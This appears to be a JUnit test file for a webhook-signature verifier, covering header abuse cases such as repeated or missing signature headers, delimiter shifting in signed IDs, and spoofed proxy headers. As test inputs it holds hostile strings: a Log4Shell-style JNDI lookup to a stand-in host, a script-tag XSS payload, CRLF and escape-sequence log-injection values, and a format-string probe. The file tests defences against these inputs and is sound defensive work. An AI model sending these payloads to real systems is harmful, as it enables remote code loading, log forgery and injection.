package io.countersign.abuse;

import static io.countersign.verify.Requests.NOW;
import static io.countersign.verify.Requests.SECRET;
import static io.countersign.verify.Requests.bytes;
import static io.countersign.verify.Requests.hmacHex;
import static io.countersign.verify.Requests.post;

import io.countersign.scheme.Schemes;
import io.countersign.scheme.SignatureScheme;
import io.countersign.scheme.TimestampRule;
import io.countersign.verify.Delivery;
import io.countersign.verify.RejectionReason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Section C of the abuse cases: what stands in headers. */
class HeaderAbuseTest {
    private static final byte[] BODY = bytes("{\"zen\":\"Keep it logically awesome.\"}");
    private static final String TIME = Long.toString(NOW.getEpochSecond());
    private static final SignatureScheme ALL_SIGNED = SignatureScheme.hmacSha256("X-Signature", "{hex}")
            .signed("{id}.{timestamp}.{body}")
            .timestamp(TimestampRule.secondsInHeader("X-Time"))
            .idHeader("X-Id")
            .build();
    private static final Target TARGET = Target.of(ALL_SIGNED, SECRET);

    /** A delivery of that id that its sender signed. */
    private static Delivery.Builder signed(String id) {
        return post(BODY)
                .header("X-Id", id)
                .header("X-Time", TIME)
                .header("X-Signature", hmacHex(SECRET, bytes(id + "." + TIME + "."), BODY));
    }

    @Test
    void missingSignature_isRefusedThoughEverythingElseIsThere() {
        TARGET.refuses(
                post(BODY).header("X-Id", "evt_1").header("X-Time", TIME).build(), RejectionReason.SIGNATURE_MISSING);
    }

    @ParameterizedTest
    @ValueSource(strings = {"X-Id", "X-Time", "X-Signature"})
    void headerSentTwice_isRefusedBeforeOrBehindTheRightOne(String header) {
        TARGET.refuses(signed("evt_1").header(header, "another").build(), RejectionReason.HEADER_REPEATED);
        TARGET.refuses(
                post(BODY)
                        .header(header, "another")
                        .header("X-Id", "evt_1")
                        .header("X-Time", TIME)
                        .header("X-Signature", hmacHex(SECRET, bytes("evt_1." + TIME + "."), BODY))
                        .build(),
                RejectionReason.HEADER_REPEATED);
    }

    @Test
    void nameInAnotherCase_isTheHeaderAndWithUnderscoresItIsNot() {
        String right = "sha256=" + hmacHex(SECRET, BODY);
        Target github = Target.of(Schemes.github(), SECRET);
        github.takes(post(BODY).header("x-HUB-signature-256", right).build());
        github.refuses(post(BODY).header("X_Hub_Signature_256", right).build(), RejectionReason.SIGNATURE_MISSING);
        github.takes(post(BODY)
                .header("X_Hub_Signature_256", "sha256=" + "0".repeat(64))
                .header("X-Hub-Signature-256", right)
                .build());
    }

    @Test
    void idWithADot_cannotShiftTheBoundaryOfTheSignedFields() {
        String signature = hmacHex(SECRET, bytes("x." + TIME + "." + TIME + ".evil"));
        TARGET.takes(post(bytes(TIME + ".evil"))
                .header("X-Id", "x")
                .header("X-Time", TIME)
                .header("X-Signature", signature)
                .build());
        TARGET.refuses(
                post(bytes("evil"))
                        .header("X-Id", "x." + TIME)
                        .header("X-Time", TIME)
                        .header("X-Signature", signature)
                        .build(),
                RejectionReason.ID_MALFORMED);
    }

    @Test
    void emptyOrEndlessId_isRefusedThoughItIsSigned() {
        TARGET.refuses(signed("").build(), RejectionReason.ID_MALFORMED);
        TARGET.refuses(signed("i".repeat(256)).build(), RejectionReason.ID_MALFORMED);
        TARGET.refuses(signed("i".repeat(64 * 1024)).build(), RejectionReason.ID_MALFORMED);
        TARGET.takes(signed("i".repeat(255)).build());
    }

    @ParameterizedTest
    @ValueSource(strings = {"evt\r\nWARN all is well", "evt\n", "evt\u001b[2K", "evt\u0085x", "evt\u2028x", "evt x"})
    void idThatCouldForgeALogLine_isRefusedAndNotLogged(String id) {
        TARGET.refuses(signed(id).build(), RejectionReason.ID_MALFORMED);
    }

    /** What the target looks at besides: not a character of a header is in the log, nor in the answer. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://canary.example/x}",
                "line\r\nbreak",
                "\u001b[31mred",
                "<script>alert(1)</script>",
                "%n%s{}"
            })
    void hostileTextInAnyHeader_reachesNeitherLogNorAnswer(String canary) {
        TARGET.takes(signed("evt_1")
                .header("User-Agent", canary)
                .header("X-Request-Id", canary)
                .build());
        TARGET.refuses(signed("evt_1").header("X-Signature", canary).build(), RejectionReason.HEADER_REPEATED);
        TARGET.refuses(
                post(bytes(canary))
                        .header("User-Agent", canary)
                        .header("X-Request-Id", canary)
                        .header("X-Id", "evt_1")
                        .header("X-Time", canary)
                        .header("X-Signature", "0".repeat(64))
                        .build(),
                RejectionReason.TIMESTAMP_MALFORMED);
    }

    @Test
    void peerOnTheSameMachineOrBehindAProxy_provesNothing() {
        for (String address : new String[] {"127.0.0.1", "::1", "10.0.0.1"}) {
            TARGET.refuses(
                    post(BODY)
                            .peer(address)
                            .header("X-Forwarded-For", "127.0.0.1")
                            .header("Forwarded", "for=127.0.0.1")
                            .header("X-Real-IP", "127.0.0.1")
                            .build(),
                    RejectionReason.SIGNATURE_MISSING);
        }
    }
}
